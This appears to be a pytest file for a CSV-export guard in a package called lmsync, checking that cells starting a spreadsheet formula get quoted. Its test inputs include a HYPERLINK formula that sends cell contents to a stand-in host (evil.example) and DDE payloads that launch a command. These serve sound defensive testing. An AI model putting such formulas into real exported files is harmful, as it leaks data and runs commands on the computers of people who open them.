"""lmsync.csv_safe: no cell of a CSV lmsync writes can start a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from lmsync import csv_safe

SRC = Path(__file__).resolve().parents[2] / "src" / "lmsync"


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_start_is_quoted(value: str) -> None:
    assert csv_safe.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Zoë", "jean@example.ca", "E-042", "", " =1", "1-2", "'quoted"])
def test_other_text_is_left_alone(value: str) -> None:
    assert csv_safe.neutralise(value) == value


@pytest.mark.parametrize("value", [None, -5, 3.5, True])
def test_non_text_values_are_left_alone(value: object) -> None:
    assert csv_safe.neutralise(value) is value


def test_the_writer_neutralises_every_cell_and_still_writes_valid_csv() -> None:
    out = io.StringIO()
    writer = csv_safe.writer(out)
    writer.writerow(["number", "name"])
    writer.writerows([["-1", '=HYPERLINK("x","y")'], ["E-2", 'Ann "the\nwelder"']])

    rows = list(csv.reader(io.StringIO(out.getvalue())))

    assert rows == [
        ["number", "name"],
        ["'-1", '\'=HYPERLINK("x","y")'],
        ["E-2", 'Ann "the\nwelder"'],
    ]


def test_no_module_writes_csv_without_it() -> None:
    """Every CSV writer of the package goes through csv_safe (found as a reviewer's grep would)."""
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "csv_safe.py" and raw.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []
